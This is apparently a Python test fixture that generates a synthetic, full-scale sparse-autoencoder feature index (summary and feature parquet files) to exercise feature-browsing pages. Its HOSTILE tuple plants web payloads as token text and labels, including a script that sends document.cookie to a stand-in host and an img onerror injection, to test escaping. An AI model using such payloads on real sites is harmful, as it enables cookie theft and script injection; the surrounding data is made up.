"""A made-up reverse index of any width: the files that the feature pages read, as large as real ones."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np

PLAIN = """
the of and a to in is you that it he was for on are as with his they I at be this have from or one had by word but not
what all were we when your can said there use an each which she do how their if will up other about out many then def
return import class = == 0 1 2 3.14 São über 数学 Москва שלום
"""
WORDS = [f" {word}" for word in PLAIN.split()] + list('.,\n:()"') + ["'s", "ing", "ed", "tion", "er", "ly"]
HOSTILE = (
    "<script>fetch('http://evil.test/'+document.cookie)</script>",
    "</td></tr></table><img src=http://evil.test/x onerror=alert(1)>",
    "\u202eabc\u202c",
    "שלום עולם",
    "</script><script>document.title='taken'</script>",
    "&lt;b&gt;&amp;",
    "\0\x1b[31m",
)


def write(
    release: Path,
    *,
    d_sae: int = 65_536,
    active: int = 29_568,
    examples: int = 147_838,
    name: str = "layer18",
    seed: int = 0,
) -> Path:
    """Write `reverse-index/NAME/` with summary.json, summary.parquet and features.parquet; its folder.

    The first active features carry the hostile tokens.
    """
    import pyarrow as pa
    import pyarrow.parquet as pq

    rng = np.random.default_rng(seed)
    folder = release / "reverse-index" / name
    folder.mkdir(parents=True)
    alive = np.zeros(d_sae, bool)
    alive[rng.permutation(d_sae)[: active - 8]] = True
    alive[:8] = True
    n_tokens = 5_000_000
    per = np.zeros(d_sae, int)  # examples of each feature, in all as many as asked for
    ids = np.flatnonzero(alive)
    per[ids] = examples // len(ids)
    per[ids[: examples - per.sum()]] += 1
    words = np.array(WORDS, dtype=object)
    theme = rng.integers(0, len(words), d_sae)
    count = np.where(alive, np.maximum(per, (rng.pareto(0.6, d_sae) * 20).astype(np.int64).clip(1, n_tokens // 3)), 0)
    top = np.where(alive, rng.gamma(4, 2, d_sae), 0).astype(np.float32)
    top_token = [words[t] if a else None for t, a in zip(theme, alive, strict=True)]
    for i, text in enumerate(HOSTILE):
        top_token[i] = text
    labels: list[str | None] = [None] * d_sae
    for i in ids[::7]:
        labels[i] = f"mentions of{words[theme[i]]}".replace("\n", "line ends")
    labels[0], labels[1] = HOSTILE[0], HOSTILE[1]
    metrics = {
        "feature": pa.array(np.arange(d_sae, dtype=np.int32)),
        "count": pa.array(count.astype(np.int64)),
        "density": pa.array(count / n_tokens),
        "max": pa.array(top),
        "mean": pa.array((top * 0.4).astype(np.float32)),
        "purity": pa.array(
            [float(p) if a else None for p, a in zip(rng.random(d_sae), alive, strict=True)], pa.float32()
        ),
        "position_0_share": pa.array(np.where(alive, rng.random(d_sae) * 0.01, 0).astype(np.float32)),
        "special_share": pa.array([None] * d_sae, pa.float32()),
    }
    drawn = rng.integers(0, len(words), (d_sae, 10))
    seen = [" ".join(words[row[:5]]).strip() if a else None for row, a in zip(drawn, alive, strict=True)]
    promoted = [" ".join(words[row]).strip() for row in drawn]
    summary = pa.table(
        metrics
        | {"top_token": pa.array(top_token), "top_tokens": pa.array(seen), "top_logits": pa.array(promoted)}
        | {"label": pa.array(labels)}
    )
    pq.write_table(summary, folder / "summary.parquet", compression="snappy", row_group_size=d_sae)

    offsets = np.concatenate([[0], np.cumsum(per)]).astype(np.int32)
    total, window = int(offsets[-1]), 17
    owner = np.repeat(np.arange(d_sae), per)
    rank = np.arange(total) - offsets[owner]
    tokens = words[rng.integers(0, len(words), (total, window))]
    tokens[:, 8] = [top_token[f] for f in owner]
    worth = (top[owner] * (1 - 0.1 * rank)).astype(np.float32)
    values = np.where(rng.random((total, window)) < 0.2, rng.random((total, window)) * worth[:, None], 0).astype(
        np.float32
    )
    values[:, 8] = worth
    kinds = np.array(["token", "token", "prompt", "sample", "sample"], dtype=object)[np.minimum(rank, 4)]
    flat = np.arange(0, total * window + 1, window, dtype=np.int32)
    records = {
        "kind": pa.array(kinds),
        "rank": pa.array(rank.astype(np.int32)),
        "value": pa.array(worth),
        "quantile": pa.array((1 - 0.15 * rank - 0.001).clip(0, 1).astype(np.float32)),
        "sample_id": pa.array(rng.integers(0, 900_000, total)),
        "position": pa.array(rng.integers(0, 300, total).astype(np.int32)),
        "role": pa.array(["assistant"] * total),
        "turn": pa.array(np.ones(total, np.int32)),
        "center": pa.array(np.full(total, 8, np.int32)),
        "tokens": pa.ListArray.from_arrays(flat, pa.array(tokens.ravel())),
        "values": pa.ListArray.from_arrays(flat, pa.array(values.ravel())),
    }

    def structs(lengths: int, **fields: Any) -> pa.Array:
        starts = np.arange(0, d_sae * lengths + 1, lengths, dtype=np.int32)
        return pa.ListArray.from_arrays(starts, pa.StructArray.from_arrays(list(fields.values()), list(fields)))

    histogram = np.zeros((d_sae, 64), np.int32)
    shape = np.exp(-0.5 * ((np.arange(64) - 36) / 3.0) ** 2)
    histogram[alive] = (count[alive][:, None] * shape / shape.sum()).round()
    strength = np.sort(rng.random((d_sae, 10)).astype(np.float32), 1)[:, ::-1]
    near = rng.integers(0, d_sae, (d_sae, 10)).astype(np.int32)
    logit = {"token": pa.array(words[drawn].ravel()), "value": pa.array(strength.ravel())}
    empty = pa.array(
        [[{"text": t, "author": "synthetic", "method": "rule", "score": 0.7}] if t else [] for t in labels]
    )
    features = pa.table(
        metrics
        | {
            "histogram": pa.ListArray.from_arrays(
                np.arange(0, d_sae * 64 + 1, 64, dtype=np.int32), pa.array(histogram.ravel())
            )
        }
        | {
            "examples": pa.ListArray.from_arrays(
                offsets, pa.StructArray.from_arrays(list(records.values()), list(records))
            )
        }
        | {
            "top_logits": structs(10, **logit),
            "bottom_logits": structs(10, token=logit["token"], value=pa.array(-strength.ravel())),
        }
        | {"neighbours": structs(10, feature=pa.array(near.ravel()), value=pa.array(strength.ravel()))}
        | {"cofiring": structs(5, feature=pa.array(near[:, :5].ravel()), value=pa.array(strength[:, :5].ravel()))}
        | {"labels": empty}
    )
    pq.write_table(
        features,
        folder / "features.parquet",
        compression="snappy",
        row_group_size=256,
        use_dictionary=False,
        write_statistics=False,
    )
    sae = {
        "id": f"saes_k64/{name}",
        "sha256": "0" * 64,
        "architecture": "topk",
        "d_in": 4096,
        "d_sae": d_sae,
        "k": 64,
        "layer": 18,
    }
    sae |= {"hook": "model.layers.18", "base_model": "Qwen/Qwen3-8B", "stage": None}
    edges = [2 ** ((i - 32) / 2) for i in range(65)]
    facts = {
        "format": "hubsae-reverse-index",
        "version": 1,
        "sae": sae,
        "scope": "not position_0",
        "n_tokens": n_tokens,
    }
    facts |= {"n_rows": n_tokens, "n_active": int(alive.sum()), "n_dead": int((~alive).sum()), "bin_edges": edges}
    (folder / "summary.json").write_text(json.dumps(facts))
    return folder
